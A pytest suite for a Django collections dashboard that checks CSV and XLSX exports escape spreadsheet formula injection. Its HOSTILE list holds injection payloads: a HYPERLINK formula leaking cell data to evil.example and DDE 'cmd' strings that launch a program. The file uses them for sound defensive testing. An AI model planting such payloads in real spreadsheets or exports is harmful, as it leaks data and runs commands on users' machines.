"""Formula escaping: the helper, and a formula probe over every export, page and command."""

import csv
import io
import re
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from core.spreadsheets import (
    FORMULA_PREFIXES,
    spreadsheet_csv_cell,
    spreadsheet_text,
)
from dashboards.exports import Column, Table, table_csv, table_xlsx
from dashboards.tables import TABLES
from tests.factories.cases import (
    AgreementInstalmentFactory,
    CollectionCaseFactory,
    PromiseToPayFactory,
    SupplementaryAgreementFactory,
    overdue_invoice,
)
from tests.factories.customers import CustomerFactory
from tests.factories.users import ManagerFactory, SalesRepFactory

# What an attacker types into a customer name, an invoice number or a reason.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_a_leading_quote(text):
    assert spreadsheet_text(value=text) == "'" + text
    assert spreadsheet_csv_cell(value=text) == "'" + text


@pytest.mark.parametrize("text", ["Alpha Ltd", "上海贸易", "a=b", " =1", "'quoted", ""])
def test_other_text_is_left_alone(text):
    assert spreadsheet_csv_cell(value=text) == text


def test_numbers_stay_numbers_and_text_that_looks_like_one_stays_text():
    assert spreadsheet_csv_cell(value=Decimal("-12.50")) == "-12.50"
    assert spreadsheet_csv_cell(value=-3) == "-3"
    assert spreadsheet_csv_cell(value=date(2026, 1, 31)) == "2026-01-31"
    assert spreadsheet_csv_cell(value=None) == ""
    assert spreadsheet_csv_cell(value=-0.5) == "-0.5"
    # Not a finite number: Excel reads "-inf" as a formula.
    assert spreadsheet_csv_cell(value=float("-inf")) == "'-inf"
    assert spreadsheet_csv_cell(value=Decimal("-Infinity")) == "'-Infinity"
    assert spreadsheet_csv_cell(value=True) == "True"
    # A string is text whatever it looks like: "-12.50" typed as a customer code.
    assert spreadsheet_csv_cell(value="-12.50") == "'-12.50"


def test_table_writers_keep_negative_amounts_numbers_and_neutralise_text():
    table = Table(
        name="probe",
        title="Probe",
        columns=[Column("=Label"), Column("Amount", "money"), Column("Days", "int")],
        rows=[("-2+3", Decimal("-12.50"), -4), ("\x0bcontrol", Decimal("7.00"), 0)],
    )

    rows = list(csv.reader(io.StringIO(table_csv(table).decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(table_xlsx(table))).active

    assert rows == [
        ["'=Label", "Amount", "Days"],
        ["'-2+3", "-12.50", "-4"],
        ["\x0bcontrol", "7.00", "0"],
    ]
    amount = sheet.cell(row=2, column=2)
    assert (amount.data_type, amount.value) == ("n", -12.5)
    assert (sheet.cell(row=2, column=3).data_type, sheet.cell(row=2, column=3).value) == ("n", -4)
    text = sheet.cell(row=2, column=1)
    assert (text.data_type, text.value, text.quotePrefix) == ("s", "-2+3", True)
    header = sheet.cell(row=1, column=1)
    assert (header.data_type, header.value, header.quotePrefix) == ("s", "=Label", True)
    # A control character XML cannot hold is replaced, not a failed export.
    assert sheet.cell(row=3, column=1).value == "\ufffdcontrol"


# --- The probe -------------------------------------------------------------------------


def csv_formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: they start with a trigger and are not a plain number."""
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_PREFIXES) and not PLAIN_NUMBER.fullmatch(cell)
    ]


def csv_neutralised(rows: list[list[str]]) -> set[str]:
    return {cell[1:] for row in rows for cell in row if cell[1:].startswith(FORMULA_PREFIXES)}


def xlsx_probe(content: bytes) -> tuple[list[str], set[str]]:
    """(formula cells, neutralised texts) of a workbook."""
    formulas, neutralised = [], set()
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(cell.coordinate)
                elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES):
                    if cell.quotePrefix:
                        neutralised.add(cell.value)
                    else:
                        formulas.append(cell.coordinate)
    return formulas, neutralised


@pytest.fixture
def hostile_book(db):
    """Every text an export shows, from customers to agreement reasons, is hostile."""
    today = timezone.localdate()
    rep = SalesRepFactory(username="@rep", first_name=HOSTILE[1], last_name=HOSTILE[2])
    customers = []
    for index, text in enumerate(HOSTILE):
        customer = CustomerFactory(code=f"{'=+-@'[index % 4]}C{index}", name=text, sales_rep=rep)
        customers.append(customer)
        invoice = overdue_invoice(
            customer=customer,
            due=today - timedelta(days=10 + 25 * index),
            amount="100.00",
            number=f"{'=+-@'[index % 4]}INV-{index}",
        )
        CollectionCaseFactory(customer=customer)
        PromiseToPayFactory(
            customer=customer,
            invoices=[invoice],
            amount=Decimal("50.00"),
            promised_date=today - timedelta(days=2),
        )
        agreement = SupplementaryAgreementFactory(
            customer=customer,
            number=f"=SA-{index}",
            reason=text,
            proposed_by=rep,
            invoices=[invoice],
        )
        AgreementInstalmentFactory(agreement=agreement, amount=Decimal("100.00"))
    return customers


@pytest.mark.django_db
def test_formula_probe_over_every_export_finds_no_formula_cell(client, hostile_book, capsys):
    client.force_login(ManagerFactory())
    seen_csv: set[str] = set()
    seen_xlsx: set[str] = set()

    for table in TABLES:
        as_csv = client.get(reverse("dashboards:export"), {"table": table, "format": "csv"})
        as_xlsx = client.get(reverse("dashboards:export"), {"table": table, "format": "xlsx"})
        assert (as_csv.status_code, as_xlsx.status_code) == (200, 200), table

        rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"), newline="")))
        assert csv_formula_cells(rows) == [], table
        seen_csv |= csv_neutralised(rows)
        formulas, neutralised = xlsx_probe(as_xlsx.content)
        assert formulas == [], table
        seen_xlsx |= neutralised

    call_command("aging_report", "--as-of", timezone.localdate().isoformat(), "--format", "csv")
    report = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert csv_formula_cells(report) == []
    seen_csv |= csv_neutralised(report)

    # The probe saw the hostile texts (and so proved something) in both formats.
    assert {HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3], "\t=1+1"} <= seen_csv
    assert {HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3], "\t=1+1"} <= seen_xlsx
    assert {"=C0", "+C1", "-C2", "@C3", "=INV-0", "=SA-0"} <= seen_csv & seen_xlsx


@pytest.mark.django_db
def test_aging_report_csv_writes_amounts_as_numbers_and_names_as_text(capsys):
    today = timezone.localdate()
    customer = CustomerFactory(code="-C9", name="=1+1")
    overdue_invoice(customer=customer, due=today - timedelta(days=3), amount="1234.50")

    call_command("aging_report", "--as-of", today.isoformat(), "--format", "csv")

    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert rows[1] == ["'-C9", "'=1+1", "0.00", "1234.50", "0.00", "0.00", "0.00", "1234.50"]
    assert rows[2] == ["TOTAL", "", "0.00", "1234.50", "0.00", "0.00", "0.00", "1234.50"]
